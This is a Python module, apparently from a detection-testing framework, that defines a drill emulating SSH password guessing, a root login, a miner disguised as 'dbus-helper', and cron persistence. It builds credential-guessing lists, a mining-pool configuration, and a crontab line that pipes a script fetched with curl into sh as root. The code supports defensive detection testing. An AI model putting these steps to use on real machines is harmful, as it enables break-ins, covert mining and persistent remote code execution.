"""The drill `ssh_guessing_then_mining`."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from davylamp.errors import UsageError
from davylamp.kit.drill import CAUGHT, Drill, DrillMeta

if TYPE_CHECKING:
    from davylamp.kit.emulation.stage import Stage

# What botnets try first (knowledge base, threats 2.5): names that every machine has or might have.
GUESSED = ("admin", "oracle", "ubuntu", "test", "postgres", "root")


class SshGuessingThenMining(Drill):
    """Somebody guesses SSH passwords, gets in, starts a miner, and sees to it that it comes back.

    What it plays.
    A real sshd on a loopback address, in a mount namespace of its own; six names with three words each from another
    loopback address, then a login as root; from that session the worker of `renamed_program`, after which the session
    ends. A crontab that fetches a script from the guesser's address lies in a folder that stands for `/`; nothing reads
    it but the look.

    What it proves.
    That one incident tells all of it: how they got in, who mines, and what brings it back.

    """

    meta = DrillMeta(
        uid="ssh_guessing_then_mining",
        title="SSH guessing, login, renamed miner, cron",
        letter="h",
        expects=CAUGHT,
        needs_root=True,
        told_by=("ssh_login_after_guessing", "fetching_persistence"),
    )

    def could_play(self) -> str:
        """OpenSSH's server and client, and root."""
        from davylamp.kit.emulation.ssh_server import lacking

        return lacking()

    def play(self, stage: Stage) -> tuple[int, ...]:
        """Guesses, logs in, starts the worker from the session."""
        from davylamp.kit.emulation.ssh_server import SshServer

        stage.role("pool", host=stage.host, port=14444)
        server = SshServer(stage, guest=stage.other_host())
        server.start()
        stage.evidence.append(server.log)
        for name in GUESSED:
            server.guess(name, ("123456", "password", name))
        configuration = stage.folder / "helper.json"
        pools = [{"url": f"{stage.host}:14444", "user": "4" + "7" * 94, "pass": "x", "algo": "rx/0"}]
        configuration.write_text(json.dumps({"autosave": True, "cpu": True, "pools": pools}), encoding="utf-8")
        line = stage.role_line(
            "worker",
            program="lib/dbus-helper",
            host=stage.host,
            port=14444,
            shown_name="dbus-helper",
            opens=str(configuration),
        )
        said = server.log_in(line, wrong=("welcome1",)).strip()
        if not said.isdecimal():
            raise UsageError("the drill's session did not start its worker", why=said or "without a word")
        self._persist(stage, server.guest)
        return (int(said),)

    def _persist(self, stage: Stage, guest: str) -> None:
        stage.root = stage.folder / "root"
        table = stage.root / "etc" / "cron.d" / "dbus-helper"
        table.parent.mkdir(parents=True)
        table.write_text(f"*/10 * * * * root curl -fsSL http://{guest}:8080/update.sh | sh\n", encoding="ascii")
